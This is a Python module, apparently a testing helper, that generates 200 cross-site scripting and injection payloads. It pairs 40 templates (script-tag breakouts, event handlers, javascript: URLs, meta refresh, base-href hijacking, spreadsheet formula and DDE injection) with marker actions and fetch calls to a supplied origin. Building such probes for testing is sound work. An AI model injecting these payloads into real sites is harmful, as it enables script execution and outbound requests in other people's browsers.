"""Two hundred values that run script, or ask for something, on a page that forgets to escape one of them."""

from __future__ import annotations

# `{js}` runs, `{url}` is asked for.
FORMS = [
    "<script>{js}</script>",
    "<SCRIPT/x>{js}</SCRIPT>",
    "</title><script>{js}</script>",
    "</style><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "--><script>{js}</script><!--",
    "]]><script>{js}</script>",
    "{{{{ 7*7 }}}}<script>{js}</script>",
    "{{% raw %}}<script>{js}</script>{{% endraw %}}",
    '"><script>{js}</script>',
    "'><script>{js}</script>",
    "</svg><script>{js}</script>",
    "</text></svg><svg><script>{js}</script></svg>",
    "<svg onload={js}>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<img src=x onerror={js}>",
    "<img src='{url}'>",
    "<img srcset='{url} 1x'>",
    '" onmouseover="{js}" autofocus onfocus="{js}" x="',
    "' onclick='{js}' tabindex=1 autofocus onfocus='{js}'",
    "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}>",
    "<body onload={js}>",
    "<video><source onerror={js}></video>",
    "<audio src='{url}' onerror={js} autoplay>",
    "<iframe src='javascript:{js}'></iframe>",
    "<iframe srcdoc='&lt;script&gt;{js}&lt;/script&gt;'></iframe>",
    "<object data='{url}'></object>",
    "<embed src='{url}'>",
    "<link rel=stylesheet href='{url}'>",
    "<style>@import '{url}';</style>",
    "<div style=\"background:url('{url}')\">x</div>",
    "<base href='{url}'>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<form action='{url}'><input name=q autofocus></form>",
    "<a href='javascript:{js}' autofocus>x</a>",
    "javascript:{js}//",
    "=cmd|'/c {url}'!A1<script>{js}</script>",
    '=HYPERLINK("{url}","x")<img src=x onerror={js}>',
    "\u202e<script>{js}</script>\u0000\ud800",
]
ACTIONS = [
    "document.documentElement.setAttribute('pw'+'ned',1)",
    "document.title='pw'+'ned'",
    "fetch('{url}')",
    "new Image().src='{url}'",
    "window.open('{url}')",
]


def payloads(origin: str) -> list[str]:
    """Return 200 payloads whose requests go to `origin`, each to its own path."""
    found = []
    for form in FORMS:
        for action in ACTIONS:
            url = f"{origin}/{len(found)}"
            found.append(form.format(js=action.format(url=url), url=url))
    return found
